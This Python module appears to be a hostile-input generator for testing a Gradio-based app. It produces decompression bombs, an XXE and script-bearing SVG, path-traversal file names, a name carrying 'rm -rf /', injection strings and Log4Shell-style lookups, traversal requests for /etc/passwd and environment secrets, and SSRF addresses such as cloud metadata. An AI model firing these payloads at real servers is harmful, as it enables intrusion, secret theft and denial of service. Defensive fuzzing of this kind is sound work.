"""What hostile visitors send: files that are none, payloads, paths, addresses."""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import numpy as np
from PIL import Image

ENDPOINTS = ("generate", "resume", "status", "animate", "follow", "export", "example")
NAMES = (
    *("photo.png", "photo.jpg", "photo.heic", "clip.mp4", "a.gif", "page.html", "x.svg", "m.npz"),
    *("../../etc/cron.d/x.png", "..\\..\\x.png", "/etc/passwd", "a\0b.png", "x" * 300 + ".png"),
    *("<script>alert(1)</script>.png", "'; rm -rf /.png", "CON.png", ".htaccess", "%2e%2e%2fx.png"),
)


def files() -> Iterator[tuple[str, bytes]]:
    """Endless files, as (name, content): broken, made-up, far larger unpacked than packed."""
    good = _pictures()
    makers = (
        lambda: _cut(random.choice(good)),
        lambda: _spoilt(random.choice(good)),
        lambda: random.randbytes(random.randrange(0, 4000)),
        _png_bomb,
        _zip_bomb,
        _gif_bomb,
        _svg,
        _pickle_in_npz,
        _many_frames,
        lambda: b"",
        lambda: b"ftyp" * 300,
        lambda: b"\x00\x00\x00\x18ftypheic" + random.randbytes(500),
        lambda: b"\x00\x00\x00\x18ftypisom" + random.randbytes(800),
        lambda: b"GIF89a" + b"\xff" * 40,
        lambda: b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
        lambda: b"ffconcat version 1.0\nfile /etc/passwd\n",
        lambda: b"glTF" + struct.pack("<II", 2, 0xFFFFFFFF) + b"{}",
    )
    while True:
        for make in makers:
            yield random.choice(NAMES), make()


def _pictures() -> list[bytes]:
    found = []
    image = Image.fromarray(np.random.default_rng(0).integers(0, 255, (400, 300, 3), np.uint8))
    for form in ("PNG", "JPEG", "WEBP", "GIF", "BMP", "TIFF"):
        box = io.BytesIO()
        image.save(box, form)
        found.append(box.getvalue())
    return found


def _cut(data: bytes) -> bytes:
    return data[: random.randrange(1, len(data))]


def _spoilt(data: bytes) -> bytes:
    spoilt = bytearray(data)
    for _ in range(random.randrange(1, 40)):
        spoilt[random.randrange(len(spoilt))] = random.randrange(256)
    return bytes(spoilt)


def _chunk(kind: bytes, data: bytes) -> bytes:
    check = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


def _png_bomb() -> bytes:
    """A grey picture of up to 60000 x 60000 pixels in some kilobytes."""
    side = random.choice((20_000, 60_000, 2**31 - 1))
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(3_000_000), 9) * random.choice((1, 3))
    parts = (_chunk(b"IHDR", head), _chunk(b"IDAT", rows), _chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _zip_bomb() -> bytes:
    """Arrays of a motion that unpack to a hundred megabytes."""
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w", zipfile.ZIP_DEFLATED) as archive:
        head = b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': "
        archive.writestr("poses.npy", head + b"(1000000000,)}".ljust(70) + bytes(100_000_000))
        archive.writestr("../../../tmp/out.npy", b"x")
    return box.getvalue()


def _gif_bomb() -> bytes:
    return b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\x00\x00" + bytes(6) + b";"


def _svg() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>&e;</text></svg>'
    )


def _pickle_in_npz() -> bytes:
    box = io.BytesIO()
    np.savez(box, poses=np.array([{"__reduce__": "os.system"}], dtype=object))
    return box.getvalue()


def _many_frames() -> bytes:
    box = io.BytesIO()
    one = Image.new("P", (8, 8))
    one.save(box, "GIF", save_all=True, append_images=[Image.new("P", (8, 8), 1)] * 2000)
    return box.getvalue()


def payloads() -> Iterator[tuple[str, Any]]:
    """Endless payloads for endpoints, as (name, data): of every kind that JSON has."""
    deep: Any = []
    for _ in range(200):
        deep = [deep]
    words = (
        *(None, True, -1, 1e308, "", " ", "preview", "\0", "🧍" * 1000, "x" * 100_000, [], {}),
        *([None] * 50, {"path": "/etc/passwd"}, {"path": None}, {"path": ["/etc/passwd"]}, deep),
        *({"path": "../../../etc/passwd"}, {"path": "\0"}, {"path": "x" * 5000}),
        *({"__class__": "x"}, "../../etc", "job:../../x", "a" * 22, "${jndi:ldap://x}", "' OR 1=1"),
        *(["/etc/passwd"], {"path": "/proc/self/environ", "meta": {"_type": "gradio.FileData"}}),
    )
    while True:
        data: Any = [random.choice(words) for _ in range(random.randrange(0, 5))]
        yield random.choice(ENDPOINTS), random.choice((data, data, data, data[:1] or None))


def paths(secrets: list[str], job: str) -> Iterator[tuple[str, str]]:
    """Requests for what is not theirs, as (method, path), going around for ever."""
    targets = ["/etc/passwd", "/proc/self/environ", *secrets]
    shapes = (
        *("/gradio_api/file={}", "/gradio_api/file=..{}", "/file={}", "/gradio_api/file/{}"),
        *("/static/../../..{}", "/assets/..%2f..%2f..{}", "/gradio_api/file=%2e%2e{}"),
        *("/svelte/../../{}", "/gradio_api/stream/{}", "/gradio_api/file=file://{}", "//{}"),
        *("/theme.css/..{}", "/custom_component/x/client/component/..{}", "/gradio_api/proxy={}"),
    )
    more = [
        *(f"/share/{word}" for word in ("", "..", "../../etc/passwd", "a" * 22, job, "%00")),
        *(f"/share/{job}/{end}" for end in ("picture.jpg", "clip.mp4", "../job.json")),
        *("/gradio_api/runs", "/monitoring", "/monitoring/summary", "/.env", "/.git/config"),
        *("/gradio_api/info?x=" + "a" * 9000, "/?job=" + job[:-1], "/?job=../../x", "/?avatar=x"),
        *("/gradio_api/queue/status", "/gradio_api/queue/data?session_hash=x", "/config"),
        *("/gradio_api/upload_progress?upload_id=x", "/gradio_api/reset", "/login", "/docs"),
    ]
    every = [shape.format(target) for target in targets for shape in shapes]
    every += [shape.format(quote(target, safe="")) for target in targets for shape in shapes]
    every = [*every, *more]
    random.shuffle(every)
    while True:
        for path in every:
            yield random.choice(("GET", "GET", "GET", "HEAD", "POST", "DELETE")), path


def addresses(canary: str) -> Iterator[dict[str, Any]]:
    """Files that lie at an address only the server can reach."""
    inside = (
        "169.254.169.254/latest/meta-data/",
        "[::1]:22/",
        "localhost:6379/",
        "0/",
        "2130706433/",
    )
    urls = [canary, canary.replace("127.0.0.1", "localhost"), *(f"http://{x}" for x in inside)]
    urls += ["file:///etc/passwd", "gopher://127.0.0.1:6379/_x", "ftp://127.0.0.1/x"]
    while True:
        for url in urls:
            kind = {"meta": {"_type": "gradio.FileData"}}
            yield {"path": url, **kind}
            yield {"path": "photo.png", "url": url, **kind}
            yield {"url": url, **kind}


def words_of(answer: str) -> str:
    """The sentence of an event that says what went wrong; "" where there is none."""
    for line in answer.splitlines():
        if line.startswith("data: ") and "error" in line:
            try:
                return str(json.loads(line.removeprefix("data: "))["error"])
            except (ValueError, KeyError, TypeError):
                continue
    return ""
